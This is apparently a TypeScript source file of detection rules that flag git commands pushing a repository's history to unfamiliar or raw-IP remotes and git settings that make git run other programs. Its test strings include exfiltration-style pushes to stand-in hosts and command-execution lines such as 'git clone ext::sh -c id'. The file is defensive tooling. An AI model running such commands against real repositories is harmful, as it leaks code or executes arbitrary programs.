// Git: commands that throw away work or rewrite what others already have.
import { remoteHost } from "../../../normalise/places/hosts.ts";
import { has, isDryRun, value, values } from "../../../normalise/programs/invocation.ts";
import { severity } from "../../bands.ts";
import { type Heuristic, onCommand } from "../../heuristic.ts";
import type { CommandFact } from "../../../../../shared/domain/facts.ts";

/** It only says what it would do. */
const rehearsal = (command: CommandFact): boolean => isDryRun(command) || has(command, "--dry-run");

export const git: readonly Heuristic[] = [
  {
    id: "git-push-elsewhere",
    threat: "Data exfiltration",
    technique: "T1567.001",
    score: severity.ask,
    check: onCommand(["git"], (command, view) => {
      if (command.subcommand !== "push" || rehearsal(command)) return null;
      const target = value(command, "--repo") ?? command.operands[0] ?? "";
      if (remoteHost(target, "upload")?.local === false)
        return "It sends the project's history to an address instead of a place the project knows";
      // Another spelling of the same place is everyday; everything at once, or a bare number, is not.
      const moved = view.byProgram
        .get("git")
        ?.some(
          (other) =>
            other.subcommand === "remote set-url" &&
            (has(command, "--all") || other.operands.some((word) => /(?:\/\/|@)\d{1,3}(?:\.\d{1,3}){3}\b/u.test(word))),
        );
      return moved === true ? "It sends the project's history to a place it has just changed" : null;
    }),
    match: [
      "git push https://example.org/x.git HEAD",
      "git push --all git@example.org:x/y.git",
      "git push ssh://git@example.org/x.git HEAD:main",
      "git push -o ci.skip --repo=https://example.org/x.git",
      "git remote set-url origin https://example.org/x.git && git push --all",
      "git remote set-url origin https://203.0.113.8/x.git && git push",
    ],
    not_match: [
      "git push origin HEAD",
      "git push -u origin feature/https",
      "git push ../backup.git main",
      "git push http://localhost:3000/me/x.git main",
      "git remote add origin https://example.org/me/x.git && git push -u origin main",
      "git push -o ci.skip origin release.1:release.1",
      "git remote set-url origin git@example.org:me/x.git && git push",
    ],
  },
  {
    id: "git-runs-command",
    threat: "Living off the land",
    technique: "T1202",
    score: severity.ask,
    check: onCommand(["git"], (command) =>
      values(command, "-c").some((setting) => runsCommand.test(setting)) ||
      command.operands.some((operand) => operand.startsWith("ext::")) ||
      Object.keys(command.assignments).some(
        (name) =>
          /^(?:GIT_SSH_COMMAND|GIT_PAGER|GIT_EDITOR|GIT_EXTERNAL_DIFF|PAGER)$/u.test(name) &&
          /\bsh\b|\/(?:tmp|dev)\//u.test(command.assignments[name] ?? ""),
      )
        ? "It makes git run another program"
        : null,
    ),
    match: ["git -c core.pager='sh -c id' log", "git clone ext::sh -c id"],
    not_match: ["git -c core.pager=cat log", "git -c color.ui=never status"],
  },
];

const runsCommand =
  /^(?:core\.(?:sshcommand|pager|editor|fsmonitor|hookspath|gitproxy)|alias\.\S+|pager\.\S+|diff\.external|protocol\.ext\.allow)=(?:!|\S*(?:sh|\/)|always)/iu;
